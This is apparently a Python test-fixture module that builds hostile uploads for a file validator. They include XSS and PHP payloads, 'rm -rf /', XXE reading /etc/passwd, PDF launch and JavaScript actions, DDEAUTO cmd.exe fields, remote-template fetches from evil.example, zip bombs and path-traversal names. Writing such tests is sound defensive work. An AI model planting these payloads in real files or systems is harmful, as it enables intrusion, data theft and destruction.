"""Files that are no papers, or hold more than a paper: each with a word of what it is told."""

import io
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

TYPES: Final = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
BODY: Final = f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>Note</w:t></w:r></w:p></w:body></w:document>'.encode()
RELS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ODT: Final = b"application/vnd.oasis.opendocument.text"
CONTENT: Final = b'<office:document-content xmlns:office="urn:x"><office:body/></office:document-content>'


@dataclass(frozen=True)
class Hostile:
    """One file: what it is called here, its bytes, a word of the refusal; `name` under which somebody sends it."""

    what: str
    content: bytes
    told: str
    name: str = "note.docx"


def docx(*more: tuple[str, bytes], types: bytes = TYPES, body: bytes = BODY) -> bytes:
    """A sound DOCX with these parts besides."""
    return packed(("[Content_Types].xml", types), ("word/document.xml", body), *more)


def odt(*more: tuple[str, bytes], content: bytes = CONTENT) -> bytes:
    """A sound ODT with these parts besides."""
    return packed(("mimetype", ODT), ("content.xml", content), *more)


def packed(*parts: tuple[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Parts packed in their order."""
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w", how) as package:
        for name, content in parts:
            package.writestr(name, content)
    return into.getvalue()


def pdf(inside: bytes = b"") -> bytes:
    """A small PDF with something in its catalogue."""
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def in_stream(inside: bytes) -> bytes:
    """The same hidden in a packed stream of objects."""
    squeezed = zlib.compress(inside)
    head = b"2 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length " + str(len(squeezed)).encode()
    return pdf().replace(b"trailer", head + b" >>\nstream\n" + squeezed + b"\nendstream\nendobj\ntrailer")


def relation(kind: str, target: str) -> tuple[str, bytes]:
    """A relationship to something elsewhere."""
    row = f'<Relationship Id="r1" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return "word/_rels/document.xml.rels", f"<Relationships>{row}</Relationships>".encode()


def all_hostile() -> Iterator[Hostile]:
    """Every one of them."""
    yield from _programs()
    yield from _pages()
    yield from _pdfs()
    yield from _macros()
    yield from _inside()
    yield from _fetching()
    yield from _bombs()
    yield from _paths()
    yield from _polyglots()
    yield from _locked()
    yield from _texts()


_BEGINNINGS: Final = {
    "a Windows program": b"MZ\x90\x00\x03", "a Linux program": b"\x7fELF\x02\x01", "a Java class": b"\xca\xfe\xba\xbe",
    "a Mac program": b"\xcf\xfa\xed\xfe", "web assembly": b"\x00asm\x01\x00", "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1",
    "a picture PNG": b"\x89PNG\r\n\x1a\n\x00", "a picture JPEG": b"\xff\xd8\xff\xe0", "a picture GIF": b"GIF89a\x01\x00\xff",
    "gzip": b"\x1f\x8b\x08\x00", "bzip": b"BZh91AY\xff", "xz": b"\xfd7zXZ\x00", "7z": b"7z\xbc\xaf\x27\x1c",
    "rar": b"Rar!\x1a\x07\x00", "a database": b"SQLite format 3\x00", "sound": b"ID3\x03\x00", "film": b"\x00\x00\x00\x18ftypmp42",
    "a shortcut": b"L\x00\x00\x00\x01\x14\x02\x00", "a cabinet": b"MSCF\x00\x00", "a font": b"wOF2\x00\x01", "UTF-16": b"\xff\xfeA\x00",
    "random bytes": bytes(range(128, 255)), "one NUL": b"hello\x00world", "escape signs": b"hello \x1b]0;title\x07",
}  # fmt: skip


def _programs() -> Iterator[Hostile]:
    for what, start in _BEGINNINGS.items():
        for name in ("note.pdf", "note.txt"):
            yield Hostile(f"{what} as {name}", start + b"\x01\x02rest", "is not taken", name)


_SCRIPTS: Final = (
    b"<script>alert(1)</script>", b"<html><body onload=alert(1)>", b"<!doctype html><p>", b"<svg onload=alert(1)>",
    b"<?xml version='1.0'?><x/>", b"<?php system('id'); ?>", b"<!ENTITY x SYSTEM 'file:///etc/passwd'>", b"#!/bin/sh\nrm -rf /",
    b"@echo off\r\ndel *.*", b"%!PS-Adobe-3.0\n", b"{\\rtf1\\ansi hello}", b"MIME-Version: 1.0\nContent-Type: text/html",
    b"  \n <SCRIPT>x</SCRIPT>", b"\xef\xbb\xbf<script>x</script>", b"</title><script>x", b"<a href=javascript:x>",
)  # fmt: skip


def _pages() -> Iterator[Hostile]:
    for number, text in enumerate(_SCRIPTS):
        yield Hostile(f"page or script {number}", text, "page or a script", "note.txt")


_IN_PDF: Final = (
    (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "script"), (b"/S /Launch /F (cmd.exe)", "starts a program"),
    (b"/Names << /EmbeddedFiles 3 0 R >>", "other files"), (b"/Type /Filespec /F (x.exe)", "other files"),
    (b"/Subtype /RichMedia", "other files"), (b"/AcroForm << /XFA [ 1 0 R ] >>", "form that runs"),
    (b"/S /SubmitForm /F (http://evil.example)", "sends or fetches"), (b"/S /ImportData", "sends or fetches"),
    (b"/S /GoToE", "sends or fetches"), (b"/S /GoToR /F (//evil.example/x)", "sends or fetches"),
    (b"/Encrypt 5 0 R", "locked"), (b"/S /J#61vaScript", "script"), (b"/S /#4aavaScript", "script"), (b"/L#61unch", "starts a program"),
    (b"/Em#62eddedFile", "other files"),
)  # fmt: skip


def _pdfs() -> Iterator[Hostile]:
    for number, (inside, told) in enumerate(_IN_PDF):
        yield Hostile(f"PDF {number}", pdf(inside), told, "note.pdf")
        yield Hostile(f"PDF {number} in a stream", in_stream(inside), told, "note.pdf")
    yield Hostile("PDF without an end", b"%PDF-1.7\nhello", "does not end", "note.pdf")
    yield Hostile("PDF that goes on", pdf() + b"\x00" * 4_000, "goes on behind", "note.pdf")


def _macros() -> Iterator[Hostile]:
    for name in ("word/vbaProject.bin", "word/vbaData.xml", "WORD/VBAPROJECT.BIN", "customUI/vbaProject.bin"):
        yield Hostile(f"DOCX with {name}", docx((name, b"x")), "macros")
    for word in (b"macroEnabled", b"vbaProject", b"activeX"):
        yield Hostile(
            f"DOCX of type {word.decode()}", docx(types=TYPES.replace(b"/>", b">" + word + b"</Types>")), "macros"
        )
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/x.py", "Dialogs/x.xml"):
        yield Hostile(f"ODT with {name}", odt((name, b"<x/>")), "macros", "note.odt")
    for code in (
        b"<script:event-listener x='1'/>",
        b"<office:script/>",
        b"<a href='macro:x'/>",
        b"vnd.sun.star.script:x",
    ):
        yield Hostile(f"ODT with {code!r}", odt(content=CONTENT + code), "field or a script", "note.odt")
    fields = (
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "DDE cmd",
        "ddeauto x",
        "INCLUDETEXT http://x",
        "INCLUDEPICTURE http://x",
    )
    for field in fields:
        body = BODY.replace(b"<w:t>", f"<w:instrText>{field}</w:instrText><w:t>".encode())
        yield Hostile(f"DOCX field {field[:12]}", docx(body=body), "field or a script")
    split = b"<w:instrText>DDEA</w:instrText><w:instrText>UTO cmd</w:instrText><w:t>"
    yield Hostile("DOCX field in two runs", docx(body=BODY.replace(b"<w:t>", split)), "field or a script")
    simple = BODY.replace(b"<w:p>", b'<w:p><w:fldSimple w:instr="DDEAUTO x"/>')
    yield Hostile("DOCX simple field", docx(body=simple), "field or a script")


def _inside() -> Iterator[Hostile]:
    for name in (
        "word/embeddings/oleObject1.bin",
        "word/embeddings/book.xlsx",
        "word/activeX/activeX1.xml",
        "word/afchunk.mht",
    ):
        yield Hostile(f"DOCX with {name}", docx((name, b"x")), "other files")
    for name in ("Object 1/content.xml", "ObjectReplacements/Object 1"):
        yield Hostile(f"ODT with {name}", odt((name, b"<x/>")), "other files", "note.odt")
    for kind in ("aFChunk", "oleObject", "control", "subDocument"):
        row = f'<Relationships><Relationship Id="r" Type="{RELS}/{kind}" Target="x"/></Relationships>'.encode()
        yield Hostile(f"DOCX related by {kind}", docx(("word/_rels/document.xml.rels", row)), "other files")


def _fetching() -> Iterator[Hostile]:
    targets = ("http://evil.example/t.dotm", "file:////evil.example/share/t.dotm", "mhtml:http://evil.example/x!x")
    for kind in ("attachedTemplate", "image", "frame", "settings", "externalLink"):
        for target in targets:
            yield Hostile(f"DOCX fetching {kind} {target[:8]}", docx(relation(kind, target)), "elsewhere")


def _bombs() -> Iterator[Hostile]:
    zeros = b"\x00" * (101 * 1024 * 1024)
    yield Hostile("DOCX that unpacks for ever", docx(("word/media/a.bin", zeros)), "unpacks to more")
    yield Hostile("DOCX of many files", docx(*((f"word/{n}.xml", b"<x/>") for n in range(2_100))), "packs more than")
    yield Hostile("PDF that unpacks for ever", in_stream(zeros), "unpacks to more", "note.pdf")
    laugh = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    yield Hostile("DOCX that laughs", docx(("word/styles.xml", laugh)), "entities")
    yield Hostile(
        "DOCX that reads files", docx(body=b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>'), "entities"
    )
    wide = '<!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")
    yield Hostile("DOCX that laughs in UTF-16", docx(("word/styles.xml", wide)), "entities")


_NAMES: Final = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\boot.ini",
    "C:\\x.exe",
    "word/../../x",
    "\\\\evil\\share\\x",
)


def _paths() -> Iterator[Hostile]:
    for name in _NAMES:
        yield Hostile(f"DOCX with a part {name!r}", docx((name, b"x")), "outside of itself")
        yield Hostile(f"ODT with a part {name!r}", odt((name, b"x")), "outside of itself", "note.odt")
    yield Hostile("DOCX with one part twice", docx(("Word/Document.xml", BODY)), "under one name")


def _polyglots() -> Iterator[Hostile]:
    yield Hostile("PDF and zip", pdf() + docx(), "at once", "note.pdf")
    yield Hostile("zip behind a text", b"Dear all,\n" + docx(), "is not taken", "note.txt")
    yield Hostile("PDF in a text", b"Dear all,\n" + pdf(), "two sorts", "note.txt")
    yield Hostile("PDF in a zip", packed(("a%PDF-1.7", b"x"), how=zipfile.ZIP_STORED), "PDF at once")
    yield Hostile("DOCX with a tail", docx() + b"MZ tail", "before or behind")
    commented = io.BytesIO(docx())
    with zipfile.ZipFile(commented, "a") as package:
        package.comment = b"<script>alert(1)</script>"
    yield Hostile("DOCX with a comment", commented.getvalue(), "before or behind")
    yield Hostile("a zip that is no document", packed(("a.txt", b"x")), "neither a DOCX nor an ODT")
    yield Hostile(
        "a spreadsheet", packed(("[Content_Types].xml", TYPES), ("xl/workbook.xml", b"<x/>")), "neither a DOCX"
    )
    yield Hostile(
        "an ODS",
        packed(("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", CONTENT)),
        "neither",
    )
    yield Hostile("a broken zip", docx()[:60], "broken")
    yield Hostile("a zip of nothing", b"PK\x03\x04" + b"\x00" * 80, "broken")


def _locked() -> Iterator[Hostile]:
    bare = bytearray(docx())
    bare[6] |= 1
    directory = bare.index(b"PK\x01\x02")
    bare[directory + 8] |= 1
    yield Hostile("DOCX with a password", bytes(bare), "locked")
    manifest = ("META-INF/manifest.xml", b"<m><manifest:encryption-data/></m>")
    yield Hostile("ODT with a password", odt(manifest), "locked", "note.odt")


def _texts() -> Iterator[Hostile]:
    yield Hostile("nothing", b"", "empty", "note.txt")
    yield Hostile("too much", b"a" * (20 * 1024 * 1024 + 1), "larger than", "note.txt")
    for number in (0, 1, 2, 7, 8, 11, 14, 27, 31, 127):
        yield Hostile(f"a text with sign {number}", b"a" + bytes([number]) + b"b", "is not taken", "note.txt")
